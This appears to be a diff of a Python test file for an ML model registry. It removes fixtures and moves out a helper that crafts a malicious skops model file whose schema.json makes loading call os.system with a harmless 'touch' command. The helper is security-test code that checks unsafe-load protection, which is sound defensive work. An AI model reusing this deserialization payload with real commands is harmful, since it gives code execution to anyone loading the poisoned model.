@@ -14,8 +14,6 @@ import copy
 import json
 import pickle
 import shutil
-import zipfile
-from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -55,65 +53,15 @@ from loopml.registry._onnx import OnnxFlavor
 from loopml.serving import score_file
 from loopml.store import tables
 from loopml.tracking import TrackingClient
+from skops_support import poison_skops
 
 P = "p"
-
-
-@pytest.fixture
-def tracking(tmp_path: Path) -> Iterator[TrackingClient]:
-    client = TrackingClient(f"sqlite:///{tmp_path / 'store' / 'loopml.db'}", str(tmp_path / "a"))
-    yield client
-    client.close()
-
-
-@pytest.fixture
-def registry(tracking: TrackingClient) -> RegistryClient:
-    return RegistryClient(tracking.store, tracking.artifacts)
 
 
 def _data(rows: int = 120) -> tuple[pd.DataFrame, Any]:
     rng = np.random.default_rng(0)
     frame = pd.DataFrame({"a": rng.normal(size=rows), "b": rng.normal(size=rows)})
     return frame, (frame["a"] + frame["b"] > 0).astype(np.int64).to_numpy()
-
-
-def poison_skops(path: Path, marker: Path) -> None:
-    """Rewrite the skops file at ``path`` so that a trusting load runs ``touch marker``.
-
-    The root estimator gets an attribute built by a "reduce" entry whose
-    constructor is ``os.system``: what a crafted ``schema.json`` can ask for.
-    """
-    with zipfile.ZipFile(path) as original:
-        members = {name: original.read(name) for name in original.namelist()}
-    schema = json.loads(members["schema.json"])
-    command = {
-        "__class__": "str",
-        "__module__": "builtins",
-        "__loader__": "JsonNode",
-        "content": json.dumps(f"touch {marker}"),
-        "is_json": True,
-        "__id__": 1,
-    }
-    attributes = schema["content"]
-    attributes["content"]["evil"] = {
-        "__class__": "system",
-        "__module__": "os",
-        "__loader__": "ConstructorFromReduceNode",
-        "content": {
-            "__class__": "tuple",
-            "__module__": "builtins",
-            "__loader__": "TupleNode",
-            "content": [command],
-            "__id__": 2,
-        },
-        "__id__": 3,
-    }
-    key_types = attributes["key_types"]["content"]
-    key_types.append(dict(key_types[0]))
-    members["schema.json"] = json.dumps(schema).encode()
-    with zipfile.ZipFile(path, "w") as rewritten:
-        for name, data in members.items():
-            rewritten.writestr(name, data)
 
 
 def _replace_files(
